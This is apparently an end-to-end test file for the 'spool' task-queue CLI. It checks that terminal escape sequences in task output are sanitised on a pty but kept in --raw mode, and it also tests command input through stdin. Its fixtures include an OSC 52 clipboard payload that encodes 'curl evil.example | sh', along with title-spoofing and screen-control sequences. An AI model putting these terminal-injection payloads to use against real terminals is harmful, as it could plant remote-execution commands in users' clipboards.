// Task output reaching a terminal through `spool log` / `spool follow` (real
// bin/spool.js on a pty, real daemon on a temp home): colours and text pass,
// hostile sequences do not; --raw gives the exact bytes. Also `spool add
// --stdin` from a slow pipe and from a file.
import {spawn} from 'node:child_process';
import {writeFileSync} from 'node:fs';
import path from 'node:path';
import pty from 'node-pty';
import {beforeAll, describe, expect, it} from 'vitest';
import {spoolBin} from '../helpers/spool-bin.js';
import {sharedHomePerFile} from '../helpers/e2e-homes.js';

const shared = sharedHomePerFile();
const spool = shared.spool;
let home = '';
beforeAll(() => {
	home = shared.home();
});

/** Runs bin/spool.js with a pty as its terminal (isatty true) and returns all it printed. */
function spoolOnPty(args: string[], timeoutMs = 30_000): Promise<{code: number; output: string}> {
	return new Promise((resolve, reject) => {
		const child = pty.spawn(process.execPath, [spoolBin, '--home', home, ...args], {cols: 120, rows: 40, env: {...process.env, NO_COLOR: '', FORCE_COLOR: ''} as Record<string, string>});
		let output = '';
		child.onData((data) => (output += data));
		const timer = setTimeout(() => {
			child.kill();
			reject(new Error(`spool ${args.join(' ')} on a pty did not finish\n${JSON.stringify(output)}`));
		}, timeoutMs);
		child.onExit(({exitCode}) => {
			clearTimeout(timer);
			resolve({code: exitCode, output});
		});
	});
}

// OSC 52 (clipboard: "curl evil.example | sh"), OSC 0 (title), alternate screen,
// cursor position query, BEL, then coloured text.
const hostile = ['\u001B]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007', '\u001B]0;pwned\u0007', '\u001B[?1049h', '\u001B[6n', '\u001B[2J'];
const printfScript = String.raw`printf '\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\007\033]0;pwned\007\033[?1049h\033[6n\033[2J\033[31mred text\033[0m plain\n'`;

const expectClean = (output: string) => {
	expect(output).toContain('\u001B[31mred text\u001B[0m plain');
	for (const sequence of hostile) expect(output).not.toContain(sequence);
	expect(output).not.toContain('\u001B]');
	expect(output).not.toContain('\u0007');
	// The payloads are gone too (the `log` header shows the command, whose text holds them as \033 escapes).
	const body = output.replace(/^[\s\S]*?\n(?:\u001B\[1m)?output:[^\n]*\n/, '').replaceAll(/--- task [^\n]*\n/g, '');
	expect(body).not.toContain('Y3VybCBl');
	expect(body).not.toContain('pwned');
};

const expectRaw = (output: string) => {
	expect(output).toContain(`${hostile.join('')}\u001B[31mred text\u001B[0m plain`);
};

describe('task output on a terminal', () => {
	let id: number;

	beforeAll(async () => {
		const added = await spool('add', '-p', '--', printfScript);
		expect(added.code).toBe(0);
		id = Number(added.stdout.trim());
		expect((await spool('wait', String(id))).code).toBe(0);
	});

	it('spool log shows colours and text but no hostile sequences', async () => {
		const {code, output} = await spoolOnPty(['log', String(id)]);
		expect(code).toBe(0);
		expectClean(output);
	});

	it('spool log --raw gives the exact bytes', async () => {
		const {code, output} = await spoolOnPty(['log', '--raw', String(id)]);
		expect(code).toBe(0);
		expectRaw(output);
	});

	it('spool log to a pipe gives the exact bytes', async () => {
		const {code, stdout} = await spool('log', String(id));
		expect(code).toBe(0);
		expectRaw(stdout);
	});

	it('spool follow shows colours and text but no hostile sequences, also with several tasks', async () => {
		const one = await spoolOnPty(['follow', String(id)]);
		expect(one.code).toBe(0);
		expectClean(one.output);
		const other = Number((await spool('add', '-p', '-i', '--', 'echo other')).stdout.trim());
		const both = await spoolOnPty(['follow', String(id), String(other)]);
		expect(both.code).toBe(0);
		expect(both.output).toContain('\u001B[31mred text\u001B[0m plain');
		for (const sequence of hostile) expect(both.output).not.toContain(sequence);
		expect(both.output).not.toContain('\u0007');
		expect(both.output).not.toContain('pwned');
	});

	it('spool follow --raw gives the exact bytes', async () => {
		const {code, output} = await spoolOnPty(['follow', '--raw', String(id)]);
		expect(code).toBe(0);
		expectRaw(output);
	});

	it('spool log shows a task command with control characters harmlessly in its header', async () => {
		const added = await spool('add', '-p', '--', 'true # \u001B]0;title\u0007');
		const taskId = added.stdout.trim();
		await spool('wait', taskId);
		const {output} = await spoolOnPty(['log', taskId]);
		expect(output).not.toContain('\u001B]0;title');
	});
});

describe('spool add --stdin', () => {
	const shell = (script: string) =>
		new Promise<{code: number | null; stdout: string; stderr: string}>((resolve) => {
			const child = spawn('sh', ['-c', script], {env: {...process.env, NO_COLOR: '1', SPOOL_BIN: spoolBin, SPOOL_HOME: home, NODE: process.execPath}, stdio: ['ignore', 'pipe', 'pipe']});
			let stdout = '';
			let stderr = '';
			child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
			child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
			child.on('close', (code) => resolve({code, stdout, stderr}));
		});

	it('reads from a slow producer', async () => {
		const result = await shell(`(sleep 1; echo 'echo slow one'; sleep 0.3; echo 'echo slow two') | "$NODE" "$SPOOL_BIN" --home "$SPOOL_HOME" add --stdin`);
		expect(result.stderr).toBe('');
		expect(result.code).toBe(0);
		const ids = result.stdout.trim().split('\n');
		expect(ids).toHaveLength(2);
		const status = JSON.parse((await spool('status', '--json')).stdout) as {tasks: Array<{id: number; command: string}>};
		expect(ids.map((taskId) => status.tasks.find((task) => task.id === Number(taskId))?.command)).toEqual(['echo slow one', 'echo slow two']);
	});

	it('reads from a file redirect', async () => {
		const file = path.join(home, 'commands.txt');
		writeFileSync(file, 'echo from file a\n\necho from file b\n');
		const result = await shell(`"$NODE" "$SPOOL_BIN" --home "$SPOOL_HOME" add --stdin < '${file}'`);
		expect(result.stderr).toBe('');
		expect(result.code).toBe(0);
		expect(result.stdout.trim().split('\n')).toHaveLength(2);
	});
});
